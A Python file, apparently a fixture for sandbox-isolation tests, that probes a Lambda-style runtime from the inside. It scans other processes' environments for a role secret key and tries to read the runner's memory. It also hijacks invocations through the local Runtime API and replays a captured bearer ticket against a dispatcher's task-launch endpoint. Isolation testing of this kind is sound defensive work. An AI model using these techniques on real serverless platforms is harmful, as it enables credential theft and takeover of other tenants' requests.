# What code can do in an environment of Lambda that it has to itself: look, answer in its runner's name, or show its
# ticket as if it were the runner. What it does is in `DO`, which the test sets.
import json
import os
import urllib.request

KEY = "role-secret-access-key"


def processes():
    return [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def holding(file, wanted):
    found = []
    for process in processes():
        try:
            with open(f"/proc/{process}/{file}", "rb") as opened:
                if wanted in opened.read():
                    found.append(process)
        except OSError:
            pass
    return found


def memory_of_the_runner():
    try:
        with open(f"/proc/{os.getppid()}/mem", "rb"):
            return "readable"
    except OSError as error:
        return type(error).__name__


def listening():
    # The well-known port of the Runtime API is another one here: whatever listens is asked.
    with open("/proc/net/tcp") as table:
        rows = [line.split() for line in table.readlines()[1:]]
    return sorted({int(row[1].split(":")[1], 16) for row in rows if row[3] == "0A"})


def ask(port, path, data=None, headers={}):
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=data, headers=headers)
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    return opener.open(request, timeout=10)


def invocation():
    for port in listening():
        try:
            answer = ask(port, "/2018-06-01/runtime/invocation/next")
            return port, answer.headers["Lambda-Runtime-Aws-Request-Id"], json.load(answer)
        except (OSError, ValueError):
            pass
    raise SystemExit("there is no Runtime API")


def look():
    _, _, event = invocation()
    keys = holding("environ", KEY.encode())
    keys += [name for name, value in os.environ.items() if KEY in value]
    found = {"keys": keys, "memory": memory_of_the_runner(), "processes": len(processes()), "event": event}
    with open("/out/found.json", "w") as file:
        json.dump(found, file)


def take_over():
    if os.environ["TRACE_PARTITION"] != "p0":
        return
    port, number, own = invocation()
    ask(port, f"/2018-06-01/runtime/invocation/{number}/response", b"null")
    while True:
        try:
            other = json.load(ask(port, "/2018-06-01/runtime/invocation/next"))
        except TimeoutError:
            continue
        if other != own:
            print("was given another", flush=True)


def steal():
    _, _, event = invocation()
    nonce = "tln_" + "A" * 43
    headers = {"Authorization": f"Bearer {event['ticket']}", "Content-Type": "application/json"}
    port = os.environ["TRACE_DISPATCHER_URL"].rsplit(":", 1)[1].strip("/")
    ask(port, "/v1/task/launch", json.dumps({"nonce": nonce}).encode(), headers)


{"look": look, "take over": take_over, "steal": steal}[DO]()
